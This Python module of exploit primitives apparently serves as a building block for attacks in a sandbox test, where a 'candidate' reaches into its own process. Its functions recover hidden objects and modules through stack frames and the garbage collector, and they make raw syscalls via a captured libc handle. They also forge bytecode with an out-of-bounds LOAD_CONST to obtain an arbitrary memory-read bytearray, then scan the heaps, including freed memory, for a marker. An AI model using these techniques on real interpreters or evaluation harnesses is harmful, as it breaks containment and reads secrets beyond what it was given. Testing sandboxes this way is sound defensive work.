"""What a candidate finds in the memory of its own process. Stands for `%REACH%` in an attack."""

import gc
import struct
import sys


def reach(kind):
    """An object of a type of this name: on the stack above, else wherever the collector knows."""
    frame = sys._getframe()
    while frame:
        for thing in frame.f_locals.values():
            if type(thing).__name__ == kind:
                return thing
        frame = frame.f_back
    gc.unfreeze()
    return next(thing for thing in gc.get_objects() if type(thing).__name__ == kind)


def module(name):
    """A module that is out of `sys.modules`."""
    gc.unfreeze()
    kind = type(sys)
    return next(m for m in gc.get_objects() if type(m) is kind and m.__name__ == name)


def syscall(number, *arguments):
    """The kernel's answer, or minus the number of the error."""
    ctypes = module("ctypes")
    wide = [ctypes.c_long(number), *map(ctypes.c_long, arguments)]
    call = reach("Kernel")._libc.syscall
    call.restype = ctypes.c_long
    result = call(*wide)
    return result if result >= 0 else -ctypes.get_errno()


def everything():
    """The whole address space as a bytearray, by a constant that lies beyond its tuple's end."""
    import dis

    constants = (None,)
    fake = struct.pack("<7Q", 1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
    pointer = struct.pack("<Q", id(fake) + 32)
    index = (id(pointer) + 32 - (id(constants) + 24)) // 8
    code = bytes((dis.opmap["RESUME"], 0))
    for shift in (24, 16, 8):
        code += bytes((dis.opmap["EXTENDED_ARG"], index >> shift & 255))
    code += bytes((dis.opmap["LOAD_CONST"], index & 255, dis.opmap["RETURN_VALUE"], 0))

    def body():
        return None

    body.__code__ = body.__code__.replace(co_code=code, co_consts=constants)
    return body(), (fake, pointer, constants)


def search(mark, length):
    """What follows a mark anywhere in the heaps: also in what was freed, and is inherited."""
    memory, _kept = everything()
    gc.unfreeze()
    things = gc.get_objects()
    heap = [id(thing) for thing in things if type(thing) is type and thing.__flags__ & 512]
    runs = [[min(heap) >> 12, max(heap) >> 12]]
    for page in sorted({id(thing) >> 12 for thing in things if type(thing) in (dict, tuple, list)}):
        if len(runs) > 1 and page - runs[-1][1] <= 16:
            runs[-1][1] = page + 1
        else:
            runs.append([page, page + 1])
    found = []
    for start, end in runs:
        text = bytes(memory[start << 12 : end << 12])
        at = text.find(mark)
        while at >= 0:
            found.append(text[at : at + length].decode("latin-1"))
            at = text.find(mark, at + 1)
    return found
